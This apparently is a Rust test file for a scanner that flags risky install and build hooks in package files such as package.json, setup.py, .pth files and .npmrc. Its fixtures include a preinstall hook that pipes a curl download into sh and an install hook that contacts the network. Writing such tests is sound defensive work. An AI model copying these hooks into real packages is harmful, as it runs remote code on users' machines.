use super::{PATTERNS, SIGNS};
use crate::review::scan::testing::{shown_diff, shown_full};

#[test]
fn every_pattern_compiles() {
    assert_eq!(PATTERNS.iter().flatten().count(), SIGNS.len());
}

#[test]
fn hooks_of_npm_are_said_by_what_they_run() {
    let package = "{\n \"scripts\": {\n  \"preinstall\": \"curl https://acme.io/x | sh\",\n  \"install\": \"node setup.js\",\n  \"prepare\": \"husky && npm run build\",\n  \"test\": \"curl x\"\n }\n}\n";
    insta::assert_snapshot!(shown_full(&[("package.json", package)]), @r#"
    high package.json:3: package.json runs a command that fetches or runs something else when it is installed (`preinstall`)
        | "preinstall": "curl https://acme.io/x | sh",
    medium package.json:4: package.json runs a command when it is installed (`install`)
        | "install": "node setup.js",
    info package.json:5: package.json runs a usual command when it is installed or built (`prepare`)
        | "prepare": "husky && npm run build",
    "#);
    assert_eq!(shown_diff(&[("package.json", package)], &[("package.json", &package.replace("curl x", "curl y"))]), "");
}

#[test]
fn other_tools_hooks_are_said() {
    let setup = "from setuptools.command.install import install\nclass X(install):\n    def run(self): urllib.request.urlopen('x')\n";
    insta::assert_snapshot!(shown_full(&[("setup.py", setup), ("a.pth", "import os\n"), ("build.rs", "fn main() { Command::new(\"sh\"); }"), ("composer.json", "{\"scripts\": {\"post-install-cmd\": \"x\"}}")]), @r#"
    high a.pth:1: a .pth file runs code whenever Python starts
        | import os
    medium build.rs:1: build.rs starts a shell or downloads something when the crate is built
        | fn main() { Command::new("sh"); }
    medium setup.py:2: setup.py runs code of its own when the package is installed
        | class X(install):
    medium setup.py:3: setup.py contacts the network when the package is installed
        | def run(self): urllib.request.urlopen('x')
    low composer.json:1: Composer runs a script when the package is installed
        | {"scripts": {"post-install-cmd": "x"}}
    info build.rs:1: This code starts a program: 1 place in 1 file
        | fn main() { Command::new("sh"); }
    "#);
}

#[test]
fn what_only_builds_is_fine() {
    assert_eq!(
        shown_full(&[
            ("setup.py", "from setuptools import setup\n# class X(install):\nsetup()\n"),
            ("a.pth", "../src\n"),
            ("package.json", "{\"scripts\": {\"build\": \"tsc\"}}"),
            ("package.json5", "postinstall")
        ]),
        ""
    );
}

#[test]
fn configuration_that_runs_code_is_said() {
    insta::assert_snapshot!(shown_full(&[
        ("binding.gyp", "{\"targets\":[{\"target_name\":\"x\",\"sources\":[\"<!(node ./x.js)\"]}]}\n"),
        (".npmrc", "save-exact=true\nnode-options=--require ./c/x.js\n"),
        ("bunfig.toml", "smol = true\npreload = [\"./c/x.ts\"]\n"),
        ("setup.py", "import subprocess as sp\n"),
    ]), @r#"
        medium .npmrc:2: npm runs code of this repository in place of or before every script
            | node-options=--require ./c/x.js
        medium binding.gyp:1: node-gyp's configuration runs a program when the package is installed
            | {"targets":[{"target_name":"x","sources":["<!(node ./x.js)"]}]}
        medium bunfig.toml:2: Bun runs this file before every program
            | preload = ["./c/x.ts"]
        low setup.py:1: setup.py starts programs when the package is installed
            | import subprocess as sp
        info setup.py:1: This code starts a program: 1 place in 1 file
            | import subprocess as sp
        "#);
    assert_eq!(
        shown_full(&[
            ("binding.gyp", "{\"include_dirs\": [\"<!(node -p \\\"require('node-addon-api').include\\\")\"]}\n"),
            (".npmrc", "node-options=--max-old-space-size=4096\nscript-shell=bash\n"),
            ("bunfig.toml", "[test]\npreload = [\"./setup.ts\"]\n"),
        ]),
        ""
    );
}
